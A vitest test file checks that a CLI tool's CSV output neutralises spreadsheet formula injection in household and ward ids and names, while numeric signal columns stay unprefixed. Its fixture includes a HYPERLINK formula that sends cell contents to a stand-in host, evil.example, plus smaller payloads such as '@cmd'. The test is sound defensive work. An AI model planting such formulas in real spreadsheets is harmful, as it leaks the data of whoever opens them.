/**
 * CSV injection end to end: `phusong analyze` on files whose ids and names are spreadsheet formulae. The
 * numeric columns must come out exactly as before (negative RSRP unprefixed); only text cells that start with
 * = + - @ tab or CR gain a leading apostrophe (docs/data-formats.md "Outputs").
 */
import { execFileSync } from 'node:child_process';
import { copyFileSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';

const FIXTURE = 'tests/fixtures/cli/analyze';
const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2,"Bấm vào đây")';

function records(path: string): string[][] {
  return Papa.parse<string[]>(readFileSync(path, 'utf8'), { skipEmptyLines: true }).data;
}

describe('phusong analyze with formula payloads in ids and names', () => {
  const dir = mkdtempSync(join(tmpdir(), 'phusong-injection-'));
  const out = join(dir, 'out');
  writeFileSync(
    join(dir, 'households.csv'),
    [
      'household_id,lon,lat,count',
      `"${HYPERLINK.replace(/"/g, '""')}",106.02500000,20.02590330,40`,
      '-12,106.02500000,20.02951652,3',
      '@cmd,106.02500000,20.03854957,1',
      'bad,=1+2,20.0,1',
    ].join('\n'),
  );
  const wards = JSON.parse(readFileSync(`${FIXTURE}/wards.geojson`, 'utf8'));
  wards.features[0].properties.gso_code = '+84W1';
  wards.features[0].properties.name = '-Phường Một';
  writeFileSync(join(dir, 'wards.geojson'), JSON.stringify(wards));
  copyFileSync(`${FIXTURE}/sites.csv`, join(dir, 'sites.csv'));
  execFileSync('node', [
    'scripts/phusong.mjs', 'analyze',
    '--wards', join(dir, 'wards.geojson'),
    '--sites', join(dir, 'sites.csv'),
    '--households', join(dir, 'households.csv'),
    '--out', out,
  ], { stdio: 'pipe' });

  it('prefixes formula-like ids in households.csv and keeps RSRP a plain negative number', () => {
    const [header, ...rows] = records(join(out, 'households.csv'));
    expect(header).toEqual([
      'household_id', 'ward_id', 'count', 'best_site_id', 'rsrp_dbm', 'signal_class', 'fibre_distance_m', 'fibre_passed',
      'sinr_db', 'throughput_mbps', 'servers_within_6db',
    ]);
    const byId = new Map(rows.map((row) => [row[0], row]));
    expect([...byId.keys()].sort()).toEqual([`'${HYPERLINK}`, "'-12", "'@cmd"].sort());
    const first = byId.get(`'${HYPERLINK}`)!;
    expect(first[1]).toBe("'+84W1");
    // RSRP as computed in analyze.test.ts (FSPL at 100 m from a −15 dBm EIRP cell), a number without prefix
    expect(first[4]).toMatch(/^-92\.5\d$/);
    expect(byId.get("'-12")![4]).toMatch(/^-106\.5\d$/);
  });

  it('prefixes formula-like ward ids and names in wards.csv, not the counts', () => {
    const [header, ...rows] = records(join(out, 'wards.csv'));
    expect(header.slice(0, 3)).toEqual(['ward_id', 'ward_name', 'households']);
    const ward = rows.find((row) => row[0] === "'+84W1")!;
    expect(ward[1]).toBe("'-Phường Một");
    expect(ward[2]).toBe('44');
  });

  it('writes the rejected row with its reason as plain text', () => {
    const [, ...rows] = records(join(out, 'rejected.csv'));
    expect(rows).toContainEqual([join(dir, 'households.csv'), '5', "Row 5, column 'lon': “=1+2” is not a number."]);
  });
});
